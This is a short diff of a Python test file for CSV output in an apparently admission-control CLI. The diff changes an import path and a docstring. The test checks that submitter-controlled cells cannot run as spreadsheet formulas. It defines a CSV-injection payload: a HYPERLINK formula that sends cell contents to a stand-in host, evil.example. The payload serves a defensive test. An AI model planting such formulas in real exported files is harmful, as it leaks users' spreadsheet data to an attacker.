@@ -1,5 +1,5 @@
 """``-o csv`` wherever the output is a table (decisions query and report, audit, policy test),
-through the real console script: one writer (webhook/cli_io.csv_text), every row parses back, and
+through the real console script: one writer (policies/offline/spreadsheet.py csv_text), every row parses back, and
 a cell a submitter controls cannot run as a spreadsheet formula."""
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ import subprocess
 import yaml
 
 from tests.unit.test_cli import ROOT, SCRIPT, STATE
-from trainjob_admission.webhook.cli.io_habits import csv_text
+from trainjob_admission.policies.offline.spreadsheet import csv_text
 from trainjob_admission.webhook.decisionlog import DecisionLog
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
